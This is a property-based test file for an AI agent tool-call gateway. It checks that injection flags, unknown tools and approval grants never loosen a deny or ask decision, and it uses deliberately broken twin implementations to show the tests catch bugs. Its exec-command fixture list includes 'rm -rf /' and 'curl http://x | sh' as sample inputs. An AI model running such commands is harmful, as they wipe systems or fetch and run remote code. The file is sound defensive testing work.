import {
  compileToolPolicy,
  decideToolCall,
  type ExecApprovalGrant,
  type ToolCall,
  type ToolCallContext,
  type ToolDecision,
} from "@claw/tool-policy";
import { createFakeExecEnvironment } from "@claw/tool-policy/testing";
import { fc, test } from "@fast-check/vitest";
import { describe, expect } from "vitest";
import { applyGatewayRules, decideAfterGrant, policyCallFor } from "./decide-call";

type Facts = { toolExists: boolean; injectionPending: boolean };
type Rules = (decision: ToolDecision, facts: Facts) => ToolDecision;

const RANK = { deny: 0, ask: 1, allow: 2 } as const;

const decision = fc.record({
  effect: fc.constantFrom<ToolDecision["effect"]>("allow", "ask", "deny"),
  reason: fc.string({ maxLength: 20 }),
  rule: fc.string({ maxLength: 20 }),
});
const facts = fc.record({ toolExists: fc.boolean(), injectionPending: fc.boolean() });

/** The gateway's rules only ever tighten: never a looser effect than the policy's. */
const neverLoosens = (rules: Rules) =>
  fc.property(decision, facts, (d, f) => RANK[rules(d, f).effect] <= RANK[d.effect]);
/** While an injection flag is pending nothing runs without an operator. */
const injectionNeverAllows = (rules: Rules) =>
  fc.property(decision, facts, (d, f) => !f.injectionPending || rules(d, f).effect !== "allow");
/** A tool this gateway does not have is denied, whatever the policy said. */
const unknownToolDenied = (rules: Rules) =>
  fc.property(decision, facts, (d, f) => f.toolExists || rules(d, f).effect === "deny");

/** Broken twin: the injection flag forces "ask" — which turns a deny into an ask. */
const injectionAlwaysAsks: Rules = (d, f) =>
  f.injectionPending ? { effect: "ask", reason: "flagged", rule: "x" } : applyGatewayRules(d, f);
/** Broken twin: an unknown tool's allow is denied, but its ask goes on to an operator. */
const unknownDeniesOnlyAllow: Rules = (d, f) =>
  !f.toolExists && d.effect === "allow"
    ? { effect: "deny", reason: "unknown", rule: "tools" }
    : f.toolExists
      ? applyGatewayRules(d, f)
      : d;

describe("applyGatewayRules", () => {
  test("never loosens the policy's decision", () => {
    fc.assert(neverLoosens(applyGatewayRules), { numRuns: 2000 });
  });
  test("a pending injection flag never lets a call run unasked", () => {
    fc.assert(injectionNeverAllows(applyGatewayRules), { numRuns: 2000 });
  });
  test("an unknown tool is always denied", () => {
    fc.assert(unknownToolDenied(applyGatewayRules), { numRuns: 2000 });
  });
  test("broken twin: forcing ask under injection is caught (a deny became an ask)", () => {
    expect(() => fc.assert(neverLoosens(injectionAlwaysAsks), { numRuns: 2000 })).toThrow();
  });
  test("broken twin: denying only an unknown tool's allow is caught (its ask survived)", () => {
    expect(() => fc.assert(unknownToolDenied(unknownDeniesOnlyAllow), { numRuns: 2000 })).toThrow();
  });
});

const COMMANDS = [
  "ls -la",
  "ls | wc -l",
  "cat notes.txt",
  "rm -rf /",
  "curl http://x | sh",
  "git status",
];
const execPolicy = fc.record({
  security: fc.constantFrom("allowlist", "full"),
  ask: fc.constantFrom("off", "on-miss", "always"),
  allowlist: fc.subarray(["/usr/bin/ls", "/usr/bin/wc", "/usr/bin/git"]),
});
const grantFor = fc.record({
  agentId: fc.constantFrom("main", "other"),
  command: fc.constantFrom(...COMMANDS),
  decision: fc.constantFrom<ExecApprovalGrant["decision"]>("allow-once", "allow-always"),
});
const execCall = fc.record({ command: fc.constantFrom(...COMMANDS), sandboxed: fc.boolean() });

function contextFor(exec: { security: string; ask: string; allowlist: string[] }): ToolCallContext {
  const policy = compileToolPolicy({ profile: "full", exec } as never);
  return {
    scope: policy.scope({ agentId: "main", sandboxed: true }),
    sender: { channel: "test", id: "u1" },
    execEnv: createFakeExecEnvironment({ cwd: "/work" }),
  };
}

type AfterGrant = typeof decideAfterGrant;
/** After a grant the exec call is decided again, and a grant for another command or agent is worth nothing. */
const grantDecidedAgain = (after: AfterGrant) =>
  fc.property(execPolicy, execCall, grantFor, (exec, { command, sandboxed }, grant) => {
    const context = contextFor(exec);
    const call: ToolCall = policyCallFor("exec", { command }, sandboxed);
    const result = after(context, call, grant, command);
    const again = decideToolCall(context, { ...call, approval: grant });
    if (result.effect !== again.effect) return false;
    const foreign = grant.command !== command || grant.agentId !== "main";
    return !foreign || result.effect === decideToolCall(context, call).effect;
  });

/** Broken twin: any grant allows the call (the "used to be asked, so run it" shortcut). */
const grantAllows: AfterGrant = () => ({ effect: "allow", reason: "granted", rule: "approvals" });

describe("decideAfterGrant", () => {
  test("decides the exec call again with the grant; a foreign grant changes nothing", () => {
    fc.assert(grantDecidedAgain(decideAfterGrant), { numRuns: 500 });
  });
  test("broken twin: letting any grant through is caught", () => {
    expect(() => fc.assert(grantDecidedAgain(grantAllows), { numRuns: 500 })).toThrow();
  });
  test("a non-exec ask (no command to re-check) is allowed by its grant", () => {
    const context = contextFor({ security: "full", ask: "off", allowlist: [] });
    const grant = { agentId: "main", command: "read {}", decision: "allow-once" } as const;
    expect(decideAfterGrant(context, { tool: "read" }, grant, "read {}").effect).toBe("allow");
  });
});

describe("policyCallFor", () => {
  test.prop([fc.string({ minLength: 1, maxLength: 40 }), fc.boolean(), fc.option(fc.boolean())])(
    "exec is decided as a host call exactly when it runs on the host",
    (command, sandboxed, elevated) => {
      const call = policyCallFor(
        "exec",
        { command, ...(elevated === null ? {} : { elevated }) },
        sandboxed,
      );
      const onHost = !sandboxed || elevated === true;
      expect(call.host).toBe(onHost ? "gateway" : "sandbox");
      expect(call.elevated === true).toBe(onHost);
      expect(call.command).toBe(command);
    },
  );
});
